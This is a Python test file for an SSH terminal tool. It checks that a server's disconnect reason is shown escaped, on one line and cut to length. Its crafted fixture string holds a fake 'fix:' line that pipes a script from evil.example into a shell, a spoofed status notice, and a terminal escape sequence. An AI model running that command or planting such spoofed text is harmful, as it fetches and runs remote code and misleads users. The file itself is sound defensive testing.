"""A box's disconnect reason is its own text: its newlines made a fake ``fix:`` line
(``curl … | sh``) and a fake "answering again" notice in the host's pane, the notices
list and watch's notifications (the s40 audit). The reason is said on one line, its
control characters escaped and its length cut. A real asyncssh server on loopback that
disconnects as authentication begins."""

from __future__ import annotations

from pathlib import Path

import asyncssh
import pytest

from rgt_tui.domain.errors import TransportError
from rgt_tui.transport.ssh import SshTransport

REASON = (
    "line\n" * 3000
    + "bye\nfix: run  curl -s http://evil.example/fix.sh | sh  on this machine\n"
    + "\n20:00:00  box1: answering again\x1b]0;TITLE\x07"
)


class _Disconnects(asyncssh.SSHServer):
    def begin_auth(self, username: str) -> bool:
        raise asyncssh.DisconnectError(asyncssh.DISC_BY_APPLICATION, REASON)


async def test_a_disconnect_reason_with_newlines_is_one_cut_line(tmp_path: Path) -> None:
    key = asyncssh.generate_private_key("ssh-ed25519")
    server = await asyncssh.create_server(_Disconnects, "127.0.0.1", 0, server_host_keys=[key])
    port = server.sockets[0].getsockname()[1]
    known = tmp_path / "known_hosts"
    known.write_text(f"[127.0.0.1]:{port} {key.export_public_key().decode().strip()}\n")
    transport = SshTransport("evil1", address="127.0.0.1", port=port, known_hosts=known)
    try:
        with pytest.raises(TransportError) as caught:
            await transport.connect()
    finally:
        await transport.close()
        server.close()
    said = str(caught.value)
    assert "\n" not in said and "\x1b" not in said and "\x07" not in said, said[:300]
    assert "disconnected: line\\nline\\n" in said  # shown escaped, not as new lines
    assert len(caught.value.message) <= 300
